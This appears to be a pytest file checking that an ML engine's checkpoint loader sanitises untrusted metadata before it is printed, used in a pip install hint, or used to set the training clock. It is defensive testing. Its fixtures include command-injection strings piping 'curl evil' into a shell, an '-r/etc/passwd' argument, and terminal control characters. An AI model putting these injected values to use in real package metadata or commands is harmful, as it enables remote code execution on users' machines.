"""What a checkpoint says is not trusted: it is checked before it gets into a terminal, a pip command or the clock."""

import json
import shutil

import pytest
from click.testing import CliRunner

from engine_core.callbacks.checkpoint_saver import CheckpointSaver
from engine_core.checkpoint import read_manifest, resolve
from engine_core.cli import main
from engine_core.errors import CheckpointError
from engine_core.loop import what_is_missing
from engine_core.trainer.manifest import differences

from .parts import trainer
from .test_checkpoint_fuzz import sign

EVIL = "\x1b[2J\n\r\u202e"
ENTRY = {"name": "BlurPool", "registered": "blurpool", "distribution": "a-plugin", "version": "1.2"}


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    folder = tmp_path_factory.mktemp("saved")
    with trainer(callbacks=[CheckpointSaver(folder)]) as made:
        made.fit()
    return resolve(folder)


def test_a_missing_plugin_is_pinned_for_pip_in_one_line_without_control_characters():
    assert what_is_missing(**ENTRY) == (
        "the checkpoint was saved with BlurPool (a-plugin 1.2), and this run does not have it: "
        "pip install a-plugin==1.2, and add 'blurpool' to the algorithms, or load the weights alone"
    )
    for name in ENTRY:
        for text in (f"x{EVIL}", "1.2\n\n"):
            assert what_is_missing(**{**ENTRY, name: text}).isprintable()


def test_only_the_name_and_version_of_a_distribution_get_into_a_command():
    names = ["git+https://evil.example/x.git; curl evil | sh #", "-r/etc/passwd", "a-plugin[extra]", 7]
    versions = ["1.2; curl evil | sh", "1.2,>=0", None]
    for wrong in [{"distribution": name} for name in names] + [{"version": version} for version in versions]:
        assert "pip install" not in what_is_missing(**{**ENTRY, **wrong}), wrong


def test_differences_contain_no_control_characters_either():
    now = {**ENTRY, "settings": {}}
    then = {**now, "distribution": EVIL, "version": EVIL, "settings": {f"rate{EVIL}": EVIL}}
    told = differences(
        {
            "algorithms": [then],
            "order": {"a" + EVIL: ["BlurPool"]},
            "versions": {"torch": EVIL},
            "training": {"loss_fn": EVIL},
        },
        {"algorithms": [now], "order": {}, "versions": {"torch": "2"}, "training": {"loss_fn": "MSELoss"}},
    )
    assert (len(told), all(line.isprintable() for line in told)) == (5, True)


def test_show_prints_no_control_characters(saved, tmp_path):
    folder = shutil.copytree(saved, tmp_path / "hostile")
    hostile = {"run_name": f"x{EVIL}seed  1", "versions": {f"torch{EVIL}": EVIL}, "machine": {EVIL: EVIL}}
    sign(folder, {**read_manifest(saved), **hostile})
    lines = CliRunner().invoke(main, ["checkpoint", "show", str(folder)]).output.removesuffix("\n").split("\n")
    assert (len(lines), all(line.isprintable() for line in lines)) == (4 + 1 + 1 + 3 + 1, True)


@pytest.mark.parametrize("unit", ["epoch", "token_in_epoch", "elapsed_s"])
def test_a_clock_that_no_run_has_is_refused(unit, saved, tmp_path):
    folder = shutil.copytree(saved, tmp_path / "hostile")
    state = json.loads((folder / "state.json").read_text())
    for value in (10**400, 2**63, -1, 1e308, True, "1", None):
        state["clock"][unit] = value
        (folder / "state.json").write_text(json.dumps(state))
        sign(folder, read_manifest(saved))
        with pytest.raises(CheckpointError, match=f"the clock in the checkpoint has {unit}="):
            trainer(load_path=folder)
